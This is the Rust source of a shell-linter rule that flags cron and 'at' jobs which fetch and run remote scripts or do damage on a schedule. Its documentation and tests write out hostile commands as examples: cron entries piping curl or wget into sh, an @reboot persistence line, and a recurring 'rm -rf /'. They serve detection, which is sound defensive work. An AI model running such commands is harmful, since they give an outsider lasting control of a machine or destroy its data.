//! CARO0612: a timed job does again and again what nobody should do once.

use super::later::{self, Form};
use crate::rules::{Check, Sink};
use crate::script::{Command, Node, Statement, StatementKind, walk};

rule! {
    /// Plans a job that runs what the network sends, or does other damage, again and again.
    ///
    /// Whoever controls that address controls this machine from then on, also after a restart.
    /// Install a file that you have read, and let the job run that.
    ///
    /// To decide: Has somebody read what runs there each time, and could the job run a file that is installed once instead?
    ///
    /// ```sh bad
    /// echo '*/5 * * * * curl -fsSL http://example.org/x.sh | sh' | crontab -
    /// ```
    /// ```sh bad
    /// (crontab -l; echo "@reboot wget -qO- https://example.org/x | bash") | crontab -
    /// ```
    /// ```sh bad
    /// echo 'curl -s https://example.org/x | sh' | at midnight
    /// ```
    /// ```sh good
    /// (crontab -l; echo '0 3 * * * /usr/local/bin/backup') | crontab -
    /// ```
    /// ```sh good
    /// crontab -l | grep -v old-job | crontab -
    /// ```
    /// ```sh good
    /// echo '/usr/local/bin/report' | at noon
    /// ```
    "CARO0612" "job-runs-danger",
    Danger,
    Check::Several(&[Check::Command { programs: &["crontab", "at", "batch"], run: check }, Check::Pipeline { run: check_pipeline }])
}

fn form(program: &str) -> Option<Form> {
    match program {
        "crontab" => Some(Form::Cron),
        "at" | "batch" => Some(Form::Script),
        _ => None,
    }
}

fn check(command: &Command, sink: &mut Sink<'_>) {
    let Some(form) = command.program.as_deref().and_then(form) else { return };
    report(command, later::given(command, sink), form, sink);
}

fn check_pipeline(stages: &[Statement], sink: &mut Sink<'_>) {
    let Some((last, before)) = stages.split_last() else { return };
    let StatementKind::Command(command) = &last.kind else { return };
    let Some(form) = command.program.as_deref().and_then(form) else { return };
    let mut texts = Vec::new();
    walk(before, &mut |node| {
        if let Node::Command(it) = node {
            texts.extend(later::echoed(it));
            texts.extend(it.redirects.iter().filter_map(|it| it.body.as_ref()).map(|it| it.text.sketch()));
        }
    });
    report(command, texts, form, sink);
}

fn report(command: &Command, texts: Vec<String>, form: Form, sink: &mut Sink<'_>) {
    if let Some(danger) = texts.iter().take(later::MOST_TEXTS).find_map(|it| later::danger_in(it, form)) {
        sink.report(command.span, format!("plans a job that does this each time: {danger}"));
    }
}

#[cfg(test)]
mod tests {
    use crate::rules::tests::check_marks;

    #[test]
    fn the_job_is_found_wherever_its_text_stands() {
        check_marks("crontab - <<E\n0 * * * * root curl -s http://x.io/a | bash\nE\n#mark 0 0 13 CARO0612\n");
        check_marks("crontab - <<< \"* * * * * rm -rf /\"\n#mark 0 0 34 CARO0612\n");
        check_marks("echo \"* * * * * curl $URL | sh\" | crontab -u bob -\n#mark 0 34 50 CARO0612\n");
    }
}
